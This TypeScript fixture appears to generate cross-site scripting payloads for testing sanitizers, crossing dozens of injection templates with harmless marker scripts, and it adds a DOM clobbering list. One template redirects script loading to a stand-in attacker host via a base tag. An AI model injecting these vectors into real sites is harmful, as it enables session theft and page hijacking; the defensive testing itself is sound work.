/** Scripts that set `window.__x`, which shows that a payload has run. */
const scripts = [
  'window.__x=1',
  "window['__x']=1",
  'top.__x=1',
  'globalThis.__x=1',
  "eval('window.__x=1')",
  "setTimeout('window.__x=1')",
] as const;

/** Markup in which text becomes code; `!` is replaced by the script. */
const templates = [
  '<script>!</script>',
  '<ScRiPt>!</sCrIpT>',
  '</script><script>!</script>',
  '</title><script>!</script>',
  '</textarea><script>!</script>',
  '</style><script>!</script>',
  '--><script>!</script>',
  ']]><script>!</script>',
  '<img src=planted onerror="!">',
  '<img/src=planted/onerror=!>',
  '"><img src=planted onerror="!">',
  '\'><img src=planted onerror="!">',
  '<<img src=planted onerror="!">',
  '<svg onload="!">',
  '<svg/onload=!>',
  '<svg><script>!</script></svg>',
  '<svg><animate onbegin="!" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:!"><text y=20>planted</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=planted onerror="!"></style></mglyph></table></mtext></math>',
  '<details open ontoggle="!">planted</details>',
  '<video><source onerror="!"></video>',
  '<audio src=planted onerror="!"></audio>',
  '<input autofocus onfocus="!">',
  '<marquee onstart="!">planted</marquee>',
  '<body onload="!">',
  '<iframe srcdoc="<script>parent.!</script>"></iframe>',
  '<iframe src="javascript:!"></iframe>',
  '<object data="javascript:!"></object>',
  '<embed src="javascript:!">',
  '<form action="javascript:!"><button autofocus>planted</button></form>',
  '<a href="javascript:!">planted</a>',
  '<meta http-equiv=refresh content="0;url=javascript:!">',
  '<base href="//evil.example/"><script src=planted.js></script>!',
  '<noscript><p title="</noscript><img src=planted onerror=\'!\'>">',
  '" autofocus onfocus="!" x="',
  "' onmouseover='!' x='",
  'javascript:!',
  'JaVaScRiPt:!',
  '\tjavascript:!',
  'java\nscript:!',
  'javascript://%0a!',
  'data:text/html,<script>!</script>',
  'vbscript:!',
  '${!}',
  '{{constructor.constructor("!")()}}',
  '$t(shell:close)!',
] as const;

/** Every template with every script. Each payload is tested in every sink. */
export const payloads: readonly string[] = templates.flatMap((template) =>
  scripts.map((script) => template.replaceAll('!', script)),
);

/** Markup that would shadow properties of the document (DOM clobbering). */
export const clobbering: readonly string[] = [
  '<img name=getElementById>',
  '<form id=documentElement><input name=dataset></form>',
  '<a id=marquee-fleet></a><a id=marquee-fleet name=textContent></a>',
  '<iframe name=crypto></iframe>',
  '<object name=sessionStorage></object>',
];

/** Divides items into groups of a size. */
export function splitIntoChunks<Item>(items: readonly Item[], size: number): Item[][] {
  return Array.from({ length: Math.ceil(items.length / size) }, (_, index) =>
    items.slice(index * size, (index + 1) * size),
  );
}
